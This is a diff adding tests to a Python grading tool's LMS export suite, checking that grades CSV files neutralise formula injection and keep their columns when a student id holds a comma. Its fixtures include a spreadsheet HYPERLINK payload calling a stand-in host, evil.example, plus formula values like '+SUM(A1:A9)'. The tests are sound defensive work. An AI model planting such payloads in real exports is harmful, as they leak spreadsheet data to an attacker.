@@ -1,18 +1,23 @@
 """Grades for an LMS (``grader/batch/_export.py``): laid out as Canvas and Moodle import
-them (``tests/lms/``), a missing submission empty, not 0, a late one flagged."""
+them (``tests/lms/``), a missing submission empty, not 0, a late one flagged. With
+nbgrader's ``grades.csv`` (``grader/bridge/_csv_export.py``), no cell a student typed opens
+as a formula or moves a column."""
 
 import csv
 import datetime
 import os
+import subprocess
 import sys
 from pathlib import Path
 
 import pytest
 
 from grader.batch._export import export_for_lms
+from grader.bridge._csv_export import COLUMNS, SafeCsvExportPlugin
 
 EXAMPLES = Path(__file__).parent / "lms"
 DUE = datetime.datetime(2026, 11, 1, 12, 0)
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Ada, Lovelace")'
 # student → (first, last, email, lms id, {assignment: (timestamp, {exercise: score})})
 CLASS = {
     "ada": ("Ada", "Lovelace", "ada@example.org", "1234",
@@ -21,7 +26,13 @@ CLASS = {
     "grace": ("Grace", "Hopper", "grace@example.org", None,
               {"a1": (DUE + datetime.timedelta(hours=5), {"x": 1.5, "y": 0.0})}),
     "linus": (None, None, None, None, {}),
+    # Typed by a hostile student (an id from the gradebook is not checked again here):
+    # a comma moved nbgrader's columns, and a blank stub then read as full marks.
+    "ev,il": (HYPERLINK, "-1+2", "@evil.example", None,
+              {"a1": (DUE - datetime.timedelta(hours=1), {"x": 0.0, "y": 0.0})}),
+    "=1+1": ("+SUM(A1:A9)", None, None, None, {}),
 }
+HARMLESS = ("ada", "grace", "linus")
 POINTS = {"a1": {"x": 2.0, "y": 3.0}, "a2": {"z": 4.0}}
 
 
@@ -53,8 +64,20 @@ def exported(tmp_path_factory):
                     grade = book.find_grade(name, assignment, assignment, student)
                     grade.auto_score = score
                 book.db.commit()
+        _grades_csv(book, folder / "out")
     export_for_lms(db_url, folder / "out")
     return folder / "out"
+
+
+def _grades_csv(book, folder: Path) -> None:
+    """grades.csv by our plugin; and, for the students whose cells nbgrader wrote right,
+    by nbgrader's and ours, to compare."""
+    from nbgrader.plugins import CsvExportPlugin
+
+    folder.mkdir()
+    SafeCsvExportPlugin(to=str(folder / "grades.csv")).export(book)
+    for plugin, name in ((CsvExportPlugin, "nbgraders.csv"), (SafeCsvExportPlugin, "ours.csv")):
+        plugin(to=str(folder / name), student=list(HARMLESS)).export(book)
 
 
 def _rows(path: Path) -> list[list[str]]:
@@ -90,3 +113,51 @@ def test_wide_file_has_a_row_per_student_and_a_column_per_exercise(exported):
     assert by_id["grace"]["a1:late"] == "late" and by_id["grace"]["a2"] == ""
     assert by_id["grace"]["total"] == "1.5" and by_id["grace"]["max"] == "9"
     assert by_id["linus"]["a1"] == "" and by_id["linus"]["a1:late"] == ""
+
+
+def _cells(paths):
+    for path in paths:
+        for row in _rows(path):
+            yield from ((path.name, cell) for cell in row)
+
+
+def test_no_cell_a_student_typed_opens_as_a_formula(exported):
+    starts_a_formula = [(name, cell) for name, cell in _cells(exported.glob("*.csv"))
+                        if cell.startswith(("=", "+", "-", "@"))]
+    assert starts_a_formula == []
+    for name in ("grades.csv", "grades_wide.csv", "moodle.csv"):
+        assert "'" + HYPERLINK in {cell for _, cell in _cells([exported / name])}, name
+    canvas = {row[3]: row for row in _rows(exported / "canvas.csv")[2:]}
+    assert canvas["'=1+1"][0] == "'+SUM(A1:A9)"
+
+
+def test_grades_csv_keeps_its_columns_when_an_id_holds_a_comma(exported):
+    with (exported / "grades.csv").open(newline="", encoding="utf-8") as f:
+        reader = csv.DictReader(f, restkey="shifted")
+        rows = {(row["assignment"], row["student_id"]): row for row in reader}
+    assert tuple(reader.fieldnames) == COLUMNS and len(rows) == len(POINTS) * len(CLASS)
+    assert not [row for row in rows.values() if "shifted" in row or None in row.values()]
+    stub = rows["a1", "ev,il"]  # a blank stub: its own score, not a neighbour's column
+    assert (stub["score"], stub["raw_score"], stub["max_score"]) == ("0.0", "0.0", "5.0")
+    assert (stub["first_name"], stub["last_name"]) == ("'" + HYPERLINK, "'-1+2")
+    assert rows["a1", "ada"]["score"] == "3.0" and rows["a2", "ev,il"]["timestamp"] == ""
+
+
+def test_grades_csv_is_nbgraders_byte_for_byte_where_nbgrader_wrote_it_right(exported):
+    ours = (exported / "ours.csv").read_bytes()
+    assert ours == (exported / "nbgraders.csv").read_bytes() and ours.count(b"\n") == 7
+
+
+def test_nbgrader_export_writes_grades_csv_with_our_plugin(exported, tmp_path):
+    """``nbgrader export``, configured by nbgrader_config.py, on the same gradebook."""
+    from conftest import ROOT
+
+    env = {**os.environ, "TENSOR_ANATOMY_INSTRUCTOR_DIR": str(exported.parent),
+           "PATH": os.pathsep.join([os.path.dirname(sys.executable), os.environ["PATH"]])}
+    env.pop("TENSOR_ANATOMY_DB_URL", None)
+    command = [sys.executable, "-m", "nbgrader", "export", f"--to={tmp_path / 'g.csv'}"]
+    done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True,
+                          timeout=300)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert "'" + HYPERLINK in {cell for _, cell in _cells([tmp_path / "g.csv"])}
+    assert (tmp_path / "g.csv").read_bytes() == (exported / "grades.csv").read_bytes()
